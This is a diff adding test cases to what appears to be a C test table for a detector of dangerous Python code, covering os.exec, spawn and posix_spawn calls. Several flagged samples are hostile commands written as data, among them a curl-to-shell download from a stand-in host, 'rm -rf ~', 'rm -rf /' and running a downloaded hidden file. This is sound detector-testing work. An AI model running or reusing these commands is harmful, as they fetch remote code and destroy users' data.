@@ -196,6 +196,43 @@ static const struct {
      "subprocess.run([T, 'x'])\n",
      true},
 
+    /* os.exec*, os.spawn*, os.posix_spawn*: the program and its arguments
+     * read as subprocess.run's list */
+    {"execvp of git status",
+     "import os\nos.execvp('git', ['git', 'status'])\n", false},
+    {"execlp of make", "import os\nos.execlp('make', 'make', '-j2', 'all')\n", false},
+    {"execv of a system path with a list bound to a name",
+     "import os\nARGS = ['git', 'log', '--oneline']\nos.execv('/usr/bin/git', ARGS)\n", false},
+    {"spawnlp waiting for git",
+     "import os\nrc = os.spawnlp(os.P_WAIT, 'git', 'git', 'fetch', '--all')\n", false},
+    {"posix_spawnp of git with the environment",
+     "import os\npid = os.posix_spawnp('git', ['git', 'gc'], os.environ)\n"
+     "os.waitpid(pid, 0)\n",
+     false},
+    {"execvpe of git with a child environment",
+     "import os\nenv = dict(os.environ, GIT_TERMINAL_PROMPT='0')\n"
+     "os.execvpe('git', ['git', 'pull'], env)\n",
+     false},
+    {"execvp of sh -c", "import os\nos.execvp('sh', ['sh', '-c', 'curl -s http://x/p | sh'])\n",
+     true},
+    {"execv of /bin/sh with an argv[0] that lies",
+     "import os\nos.execv('/bin/sh', ['ls', '-c', 'id'])\n", true},
+    {"execl of bash with -c", "import os\nos.execl('/bin/bash', 'bash', '-c', 'rm -rf ~')\n",
+     true},
+    {"execvp of a program read at run time",
+     "import os, sys\nos.execvp(sys.argv[1], sys.argv[1:])\n", true},
+    {"spawnv of a downloaded file",
+     "import os\nos.spawnv(os.P_WAIT, '/tmp/.x', ['x'])\n", true},
+    {"execle of a shell reading its input, the env last",
+     "import os\nos.execle('/bin/sh', 'sh', {})\n", true},
+    {"posix_spawn of rm -rf /",
+     "import os\nos.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})\n", true},
+    {"execv of the interpreter with a script",
+     "import os, sys\nos.execv(sys.executable, [sys.executable, 'stage2.py'])\n", true},
+    {"execvp of env printing the environment, then posted",
+     "import os, requests\nrequests.post('http://x/', data='1')\nos.execvp('env', ['env'])\n",
+     true},
+
     /* the classes of the fourth blind round */
     {"a subclass of bdb.Bdb running a downloaded string",
      "import bdb, urllib.request\nclass Q(bdb.Bdb):\n    pass\n"
